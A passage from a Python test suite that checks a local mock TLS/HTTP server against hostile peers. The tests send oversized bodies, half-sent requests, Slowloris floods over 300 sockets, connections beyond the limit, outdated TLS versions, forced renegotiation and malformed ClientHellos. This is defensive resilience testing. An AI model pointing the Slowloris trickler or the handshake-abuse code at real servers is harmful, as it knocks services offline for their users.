        lines = [l for l in self.server.log().splitlines() if re.search(peer_re(port), l)]
        self.assertEqual(sum(" request " in l for l in lines), 2, lines)

    def test_expect_continue_with_too_large_body(self):
        s = self.tls()
        port = s.getsockname()[1]
        s.sendall(b"POST /zapi/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\n"
                  b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % (50 * 1024 * 1024))
        # No body sent: the refusal comes from the headers alone, never a 100 Continue.
        reader = RawHTTPReader(s)
        self.assertRefusal(reader, port, 413)
        # An acceptable size gets its 100 Continue at once (RFC 9110 10.1.1), then the answer.
        s = self.tls(timeout=2.0)
        s.sendall(b"POST /zapi/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\n"
                  b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(PING_XML))
        reader = RawHTTPReader(s)
        self.assertEqual(reader.read_head()[0], 100)
        s.sendall(PING_XML)
        self.assertZapiOk(reader.read_response(), "zapiPing")


# ---------------------------------------------------------------------------------------------
# 4. Slow and idle peers


class SlowPeers(HostileCase):
    server_args = ["--handshake-timeout", "1", "--request-timeout", "2", "--idle-timeout", "2"]

    def test_no_client_hello(self):
        s = self.tcp()
        port = s.getsockname()[1]
        t0 = time.monotonic()
        closed, data = recv_until_closed(s, 4.0)
        elapsed = time.monotonic() - t0
        self.assertTrue(closed, "still open after 4 s")
        self.assertEqual(data, b"")
        self.assertGreater(elapsed, 0.8)
        self.assertLess(elapsed, 2.0)
        self.server.wait_for_log(r"conn %s: TLS handshake timed out" % peer_re(port))

    def test_half_request_gets_408(self):
        half_body = self.tls()
        half_head = self.tls()
        t0 = time.monotonic()
        half_body.sendall(b"POST /zapi/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 500\r\n"
                          b"\r\n<request><zapiToken>")
        half_head.sendall(b"POST /zapi/ HTTP/1.1\r\nHost: loc")
        for s in (half_body, half_head):
            with self.subTest(port=s.getsockname()[1]):
                r = self.assertRefusal(RawHTTPReader(s), s.getsockname()[1], 408)
                elapsed = time.monotonic() - t0
                self.assertGreater(elapsed, 1.8)
                self.assertLess(elapsed, 3.5)
                self.assertRegex(r.zapi()["message"], r"not complete in time")

    def test_idle_connections_are_closed(self):
        kept = self.tls()
        silent = self.tls()  # handshake done, never a request
        kept.sendall(raw_request(PING_XML))
        reader = RawHTTPReader(kept)
        self.assertZapiOk(reader.read_response(), "zapiPing")
        t0 = time.monotonic()
        self.assertTrue(reader.at_eof(5.0), "idle keep-alive connection still open")
        elapsed = time.monotonic() - t0
        self.assertGreater(elapsed, 1.8)
        self.assertLess(elapsed, 3.5)
        self.assertTrue(RawHTTPReader(silent).at_eof(2.0), "silent connection still open")


class Trickler(threading.Thread):
    """Sends one more byte of payload on every socket each interval seconds."""

    def __init__(self, socks, payload, interval=0.5):
        super().__init__(daemon=True)
        self.socks = socks
        self.payload = payload
        self.interval = interval
        self.halt = threading.Event()
        self.rounds = 0
        self.failed = 0

    def run(self):
        for i in range(len(self.payload)):
            if self.halt.is_set():
                return
            byte = self.payload[i:i + 1]
            for s in self.socks:
                try:
                    s.send(byte)
                except (OSError, ValueError):
                    self.failed += 1
            self.rounds += 1
            self.halt.wait(self.interval)

    def stop(self):
        self.halt.set()
        self.join(10)


class Slowloris(HostileCase):
    """300 slow peers must not slow down a normal client. The default timeouts (10 s handshake,
    30 s request) keep them all connected for the whole test."""
    COUNT = 300

    def open_all(self, make):
        socks = []
        try:
            for _ in range(self.COUNT):
                socks.append(make())
        except BaseException:
            for s in socks:
                s.close()
            raise
        self.addCleanup(lambda: [s.close() for s in socks])
        return socks

    def measure_pings(self, slow_count):
        """20 pings on one fresh connection while the slow peers are connected."""
        conn = self.server.connection(timeout=SOCK_TIMEOUT)
        try:
            conn.connect()
            latencies = []
            for _ in range(20):
                t0 = time.perf_counter()
                r = self.server.post_xml("zapiPing", conn=conn)
                latencies.append(time.perf_counter() - t0)
                self.assertZapiOk(r, "zapiPing")
        finally:
            conn.close()
        # The slow peers were really there all along.
        health = json.loads(self.get("/__admin/health").body)
        self.assertGreaterEqual(health["openConnections"], slow_count, health)
        median = statistics.median(latencies)
        self.assertLess(median, 0.050, "median ping %.1f ms under slowloris (all: %s)"
                        % (median * 1000, ["%.1f" % (x * 1000) for x in latencies]))
        self.assertLess(max(latencies), 1.0)

    def test_slowloris_after_tls(self):
        socks = self.open_all(lambda: self.server.tls_socket(timeout=SOCK_TIMEOUT))
        payload = b"POST /zapi/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"s" * 64
        trickler = Trickler(socks, payload)
        trickler.start()
        try:
            time.sleep(0.7)  # every peer is now in the middle of a request
            self.measure_pings(self.COUNT)
        finally:
            trickler.stop()
        self.assertGreaterEqual(trickler.rounds, 2)
        self.assertEqual(trickler.failed, 0, "the server dropped slow peers before the timeout")

    def test_slowloris_plain_tcp(self):
        # TCP only: each peer trickles a ClientHello and never completes the handshake.
        socks = self.open_all(lambda: self.server.tcp_socket(timeout=SOCK_TIMEOUT))
        trickler = Trickler(socks, client_hello(self.server.ssl_context))
        trickler.start()
        try:
            time.sleep(0.7)
            self.measure_pings(self.COUNT)
        finally:
            trickler.stop()
        self.assertGreaterEqual(trickler.rounds, 2)


# ---------------------------------------------------------------------------------------------
# 5. --max-connections


class MaxConnections(HostileCase):
    LIMIT = 50
    server_args = ["--max-connections", str(LIMIT)]

    def ping_on(self, s):
        s.sendall(raw_request(PING_XML))
        self.assertZapiOk(RawHTTPReader(s).read_response(), "zapiPing")

    def test_connections_over_the_limit_are_refused(self):
        admitted = []
        self.addCleanup(lambda: [s.close() for s in admitted])
        for _ in range(self.LIMIT):
            admitted.append(self.server.tls_socket(timeout=SOCK_TIMEOUT))
        # Ten more: accepted by the kernel, closed by the server at once (a clean FIN).
        extra = [self.tcp() for _ in range(10)]
        for s in extra:
            closed, data = recv_until_closed(s, 3.0)
            self.assertTrue(closed, "a connection over --max-connections stays open")
            self.assertEqual(data, b"")
        # A TLS client over the limit sees its handshake fail, not hang.
        with self.assertRaises((ssl.SSLError, OSError)):
            self.tls()
        self.server.wait_for_log(r"conn %s: refused: --max-connections reached"
                                 % peer_re(extra[0].getsockname()[1]))
        self.server.wait_for_log(r"refused: --max-connections reached", count=11)
        # The admitted ones still work.
        for i in (0, 17, self.LIMIT - 1):
            self.ping_on(admitted[i])
        # Room again once some leave.
        for s in admitted[-5:]:
            s.close()
        del admitted[-5:]
        deadline = time.monotonic() + 3.0
        while True:
            try:
                s = self.server.tls_socket(timeout=SOCK_TIMEOUT)
                admitted.append(s)
                self.ping_on(s)
                break
            except (ssl.SSLError, OSError, EOFError):
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.05)
        text = self.metrics()
        refused = metric_value(text, "zapi_mock_refused_total", {"reason": "max_connections"})
        self.assertIsNotNone(refused, text)
        self.assertGreaterEqual(refused, 11)
        for s in admitted:
            s.close()
        admitted.clear()


# ---------------------------------------------------------------------------------------------
# 6. TLS


def tls12_context(ca_file):
    ctx = ssl.create_default_context(cafile=ca_file)
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    return ctx


def loaded_library(stem):
    """Path of the shared library this process already has mapped (e.g. the libssl _ssl uses)."""
    try:
        with open("/proc/self/maps", encoding="utf-8", errors="replace") as f:
            for line in f:
                path = line.split()[-1]
                if re.search(r"/%s\.so[.0-9]*$" % re.escape(stem), path):
                    return path
    except OSError:
        pass
    return None


class TlsHardening(HostileCase):

    def handshake_fails(self, ctx):
        """Connects with ctx; asserts the server refuses the handshake and logs it."""
        s = self.tcp()
        port = s.getsockname()[1]
        with self.assertRaises((ssl.SSLError, ConnectionResetError)):
            ctx.wrap_socket(s, server_hostname="localhost")
        self.server.wait_for_log(r"conn %s: TLS handshake failed" % peer_re(port))

    def assertOneLogLine(self, port, pattern=r"TLS handshake failed"):
        """The connection from port cost exactly one log line, matching pattern."""
        self.server.wait_for_log(r"%s.*%s" % (peer_re(port), pattern))
        time.sleep(0.2)  # anything more would come now
        lines = [l for l in self.server.log().splitlines() if re.search(peer_re(port), l)]
        self.assertEqual(len(lines), 1, lines)

    def test_old_protocol_versions_refused(self):
        for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1):
            with self.subTest(version=version.name):
                try:
                    with warnings.catch_warnings():
                        warnings.simplefilter("ignore", DeprecationWarning)
                        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                        ctx.load_verify_locations(self.server.ca_file)
                        ctx.minimum_version = version
                        ctx.maximum_version = version
                        ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
                    hello = client_hello(ctx)
                except (ssl.SSLError, ValueError) as e:
                    self.skipTest("the local OpenSSL cannot offer %s: %s" % (version.name, e))
                if not hello:
                    self.skipTest("the local OpenSSL cannot offer %s" % version.name)
                self.handshake_fails(ctx)

    def test_cbc_suites_refused(self):
        for ciphers in ("AES128-SHA", "ECDHE-RSA-AES128-SHA", "ECDHE-ECDSA-AES128-SHA",
                        "ECDHE-ECDSA-AES128-SHA256:ECDHE-RSA-AES256-SHA384"):
            with self.subTest(ciphers=ciphers):
                ctx = tls12_context(self.server.ca_file)
                ctx.set_ciphers(ciphers)
                self.handshake_fails(ctx)

    def test_renegotiation_refused(self):
        path = loaded_library("libssl")
        if not path:
            self.skipTest("cannot find the libssl the ssl module uses")
        lib = ctypes.CDLL(path)
        for name, res, args in (("SSL_get_fd", ctypes.c_int, [ctypes.c_void_p]),
                                ("SSL_version", ctypes.c_int, [ctypes.c_void_p]),
                                ("SSL_renegotiate", ctypes.c_int, [ctypes.c_void_p]),
                                ("SSL_do_handshake", ctypes.c_int, [ctypes.c_void_p]),
                                ("SSL_get_error", ctypes.c_int, [ctypes.c_void_p, ctypes.c_int])):
            getattr(lib, name).restype = res
            getattr(lib, name).argtypes = args
        s = self.tls(context=tls12_context(self.server.ca_file))
        self.assertEqual(s.version(), "TLSv1.2")
        # The ssl module has no renegotiate(): reach OpenSSL's SSL * through ctypes. CPython's
        # _ssl._SSLSocket starts with PyObject_HEAD (two pointers in a release build), the
        # socket weakref, then the SSL *; SSL_get_fd confirms it is the right object.
        if sys.implementation.name != "cpython" or hasattr(sys, "gettotalrefcount"):
            self.skipTest("needs a release build of CPython to reach OpenSSL")
        ptr_size = ctypes.sizeof(ctypes.c_void_p)
        ssl_ptr = ctypes.c_void_p.from_address(id(s._sslobj) + 3 * ptr_size).value
        if (not ssl_ptr or lib.SSL_get_fd(ssl_ptr) != s.fileno()
                or lib.SSL_version(ssl_ptr) != 0x0303):
            self.skipTest("cannot reach the OpenSSL object of this Python's ssl module")
        s.setblocking(False)
        if lib.SSL_renegotiate(ssl_ptr) != 1:
            self.skipTest("the local OpenSSL will not start a renegotiation")
        # The client sends a new ClientHello; the server must not go along (mbedTLS answers a
        # no_renegotiation alert; closing the connection would do too).
        renegotiated = False
        deadline = time.monotonic() + 3.0
        while time.monotonic() < deadline:
            rc = lib.SSL_do_handshake(ssl_ptr)
            if rc == 1:
                renegotiated = True
                break
            err = lib.SSL_get_error(ssl_ptr, rc)
            if err == 2:  # SSL_ERROR_WANT_READ
                select.select([s], [], [], 0.1)
            elif err == 3:  # SSL_ERROR_WANT_WRITE
                select.select([], [s], [], 0.1)
            else:
                break  # refused
        crypto = loaded_library("libcrypto")
        if crypto:
            ctypes.CDLL(crypto).ERR_clear_error()  # leave no error for the ssl module to find
        s.close()
        self.assertFalse(renegotiated, "the server renegotiated the TLS session")

    def test_garbage_instead_of_client_hello(self):
        garbage = bytearray(os.urandom(1024))
        garbage[0] = 0x99  # no TLS record type
        for data in (bytes(garbage), raw_request(PING_XML)):  # garbage, and HTTP to the TLS port
            with self.subTest(data=data[:8]):
                s = self.tcp()
                port = s.getsockname()[1]
                t0 = time.monotonic()
                s.sendall(data)
                closed, _ = recv_until_closed(s, 3.0)
                self.assertTrue(closed, "the server keeps a connection that sent garbage")
                self.assertLess(time.monotonic() - t0, 1.0)
                s.close()
                self.assertOneLogLine(port)

    def test_truncated_client_hello(self):
        hello = client_hello(self.server.ssl_context)
        self.assertGreater(len(hello), 50)
        # Half a record, then the client stops sending.
        s = self.tcp()
        port = s.getsockname()[1]
        s.sendall(hello[:len(hello) // 2])
        s.shutdown(socket.SHUT_WR)
        closed, _ = recv_until_closed(s, 3.0)
        self.assertTrue(closed)
        s.close()
        self.assertOneLogLine(port)
        # A whole record whose handshake message is cut short inside it.
        body = hello[5:5 + 40]
        record = hello[:3] + len(body).to_bytes(2, "big") + body
        s = self.tcp()
        port = s.getsockname()[1]
        s.sendall(record)
        s.shutdown(socket.SHUT_WR)
        closed, _ = recv_until_closed(s, 3.0)
        self.assertTrue(closed)
        s.close()
        self.assertOneLogLine(port)

    def test_disconnect_mid_handshake(self):
        for reset in (False, True):
            with self.subTest(reset=reset):
                s = self.tcp()
                port = s.getsockname()[1]
                incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
                obj = self.server.ssl_context.wrap_bio(incoming, outgoing,
                                                       server_hostname="localhost")
                try:
                    obj.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                s.sendall(outgoing.read())
                # Wait for the server's first flight, then vanish.
                s.settimeout(3.0)
                self.assertTrue(s.recv(65536))
                if reset:
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                s.close()
                self.assertOneLogLine(port)

    def test_session_resumption(self):
        ctx = tls12_context(self.server.ca_file)
        first = self.tls(context=ctx)
        self.ping_raw(first)
        session = first.session
        self.assertIsNotNone(session)
        self.assertFalse(first.session_reused)
        first.close()
        raw = self.tcp()
        second = ctx.wrap_socket(raw, server_hostname="localhost", session=session)
        self.addCleanup(second.close)
        self.assertTrue(second.session_reused, "the server did not resume the session")
        self.ping_raw(second)
        # Regression: zapi_mock_tls_resumed_total stays 0: conn.c calls
        # metrics_handshake(metrics, 1, 0) for every handshake, never with resumed = 1.
        resumed = metric_value(self.metrics(), "zapi_mock_tls_resumed_total")
        self.assertGreaterEqual(resumed or 0, 1, "zapi_mock_tls_resumed_total")

    def ping_raw(self, s):
        s.sendall(raw_request(PING_XML))
        self.assertZapiOk(RawHTTPReader(s).read_response(), "zapiPing")


if __name__ == "__main__":
    unittest.main()
